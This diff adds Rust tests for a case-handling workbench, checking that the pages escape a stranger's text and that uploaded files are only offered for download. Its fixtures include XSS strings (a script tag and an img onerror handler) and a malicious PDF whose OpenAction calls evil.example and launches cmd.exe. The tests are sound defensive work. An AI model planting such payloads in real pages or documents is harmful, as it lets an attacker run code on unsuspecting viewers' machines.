@@ -1,0 +1,78 @@
+//! What a stranger's text and files can do: nothing.
+
+use reqwest::{Method, StatusCode};
+
+use crate::common::browser::{TestPage, WorkbenchBrowser};
+
+#[tokio::test]
+async fn a_strangers_text_stays_text() {
+    let screen = WorkbenchBrowser::open("lead").await;
+    let hostile = "</p><script>alert(1)</script><img src=x onerror=alert(2)>\u{202e}\u{1b}[2J & \"'";
+    let mut reporter = screen.environment.handler.file_report(&screen.environment.installation, &[], hostile);
+    screen.environment.handler.follow_up(&screen.environment.installation, &mut reporter, hostile);
+    screen.unlock().await;
+    let case = screen.open_case(&reporter).await;
+    for path in ["", "/messages", "/notes", "/timeline", "/file/1"] {
+        let answer = screen.request(&Method::GET, &format!("{case}{path}")).send().await.unwrap();
+        let policy = answer.headers()["content-security-policy"].to_str().unwrap().to_owned();
+        assert!(policy.contains("default-src 'none'") && !policy.contains("unsafe"), "{policy}");
+        assert_eq!(answer.headers()["cache-control"], "no-store");
+        let page = TestPage::from_response(answer).await;
+        assert_eq!(page.status, StatusCode::OK, "{path}");
+        assert_eq!(page.texts("script").concat(), "", "{path}: no script of a stranger's");
+        assert_eq!(page.texts("[onerror]").len(), 0, "{path}");
+        assert!(!page.text.contains('\u{202e}') && !page.text.contains('\u{1b}'), "{path}");
+    }
+    let story = screen.get(&case).await.texts(".text").concat();
+    assert!(story.contains("<script>alert(1)</script>"), "shown as it was written: {story}");
+    let saved = screen.request(&Method::POST, &format!("{case}/file/1")).send().await.unwrap();
+    assert_eq!(saved.headers()["content-disposition"], "attachment; filename*=UTF-8''photo.jpg");
+    assert_eq!(saved.headers()["content-type"], "application/octet-stream");
+    assert!(saved.headers()["content-security-policy"].to_str().unwrap().contains("sandbox"));
+    assert_eq!(saved.bytes().await.unwrap(), &b"a photograph of a receipt book"[..]);
+    let words = "<script>alert(1)</script>";
+    let found = screen.post("/search", &[("words", words)]).await;
+    assert_eq!(found.texts("script").concat(), "");
+}
+
+/// A document that runs a script and calls home as soon as a viewer opens it, under the name of a picture.
+const HOSTILE_PDF: &[u8] = b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL('http://evil.example'))>>>>endobj\n\
+    2 0 obj<</S/Launch/F(cmd.exe)>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF";
+
+#[tokio::test]
+async fn a_hostile_document_is_saved_with_a_warning_and_never_shown() {
+    let screen = WorkbenchBrowser::open("lead").await;
+    screen.unlock().await;
+    for (name, said_to_be, tried) in [
+        ("invoice.pdf", "application/pdf", false),
+        ("invoice.png", "image/png", true),
+        ("page.html", "text/html", false),
+        ("drawing.svg", "image/svg+xml", true),
+    ] {
+        let office = &screen.environment;
+        let reporter = office.handler.file_report_with(
+            &office.installation,
+            &[],
+            "See the file.",
+            (name, said_to_be, HOSTILE_PDF),
+        );
+        let case = screen.open_case(&reporter).await;
+        let page = screen.get(&format!("{case}/file/1")).await;
+        assert_eq!(page.status, StatusCode::OK);
+        assert!(page.text.contains("Never by a double click"), "{name}: the warning");
+        // What is no picture is offered for saving alone; what is called one is tried in the confined process, which knows better.
+        let shown = page.texts("img, embed, object, iframe, video, audio").len();
+        assert_eq!(shown, usize::from(tried), "{name}");
+        let picture = screen.get(&format!("{case}/picture/1")).await;
+        assert_eq!(picture.status, StatusCode::NOT_FOUND, "{name}");
+        assert!(!picture.text.contains("evil.example"), "{name}");
+        // No address gives it to be looked at, only to be saved.
+        let saved = screen.request(&Method::POST, &format!("{case}/file/1")).send().await.unwrap();
+        let headers = saved.headers().clone();
+        assert_eq!(headers["content-type"], "application/octet-stream");
+        assert_eq!(headers["x-content-type-options"], "nosniff");
+        assert!(headers["content-disposition"].to_str().unwrap().starts_with("attachment;"));
+        assert!(headers["content-security-policy"].to_str().unwrap().contains("sandbox"));
+        assert_eq!(saved.bytes().await.unwrap(), HOSTILE_PDF, "{name}: as it came");
+    }
+}
